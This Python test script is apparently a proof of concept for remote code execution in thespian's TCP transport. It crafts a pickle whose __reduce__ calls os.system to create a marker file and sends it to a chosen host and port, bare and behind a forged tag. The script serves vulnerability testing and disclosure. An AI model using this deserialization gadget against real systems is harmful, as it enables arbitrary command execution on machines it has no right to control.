"""An attacker's frame for thespian's TCP transport: a pickle that runs a command when loaded.

    python -m tests.crafted_frame HOST PORT MARKER_PATH

sends two frames to HOST:PORT, each on its own connection: the bare pickle (what thespian
4.0.1 unpickles unchecked) and the same pickle behind 32 bytes of forged tag. Unpickling either
creates MARKER_PATH. Prints what the port answered on each connection.
"""

from __future__ import annotations

import os
import pickle
import socket
import sys
from typing import Any


class _CreateFile:
    """Pickles to a call of ``os.system("touch <path>")``: code that runs on unpickling."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch '{self.path}'",))


def exploit_payload(marker: str) -> bytes:
    """A pickle whose loading creates the file `marker`."""
    return pickle.dumps(_CreateFile(marker))


def frame(payload: bytes) -> bytes:
    """`payload` framed as thespian's transport frames it: ``b"<length>>" + payload``."""
    return b"%d>" % len(payload) + payload


def send(host: str, port: int, data: bytes, timeout: float = 5.0) -> bytes:
    """Send `data` on a new connection; what came back before the peer closed or went quiet."""
    with socket.create_connection((host, port), timeout=timeout) as sock:
        sock.sendall(data)
        try:
            return sock.recv(4096)
        except (TimeoutError, ConnectionError):
            return b""


def attack(host: str, port: int, marker: str) -> list[bytes]:
    """Send the bare exploit and the exploit behind a forged tag; the answers."""
    payload = exploit_payload(marker)
    return [send(host, port, frame(payload)), send(host, port, frame(b"\0" * 32 + payload))]


if __name__ == "__main__":
    for answer in attack(sys.argv[1], int(sys.argv[2]), sys.argv[3]):
        sys.stdout.write(repr(answer) + "\n")
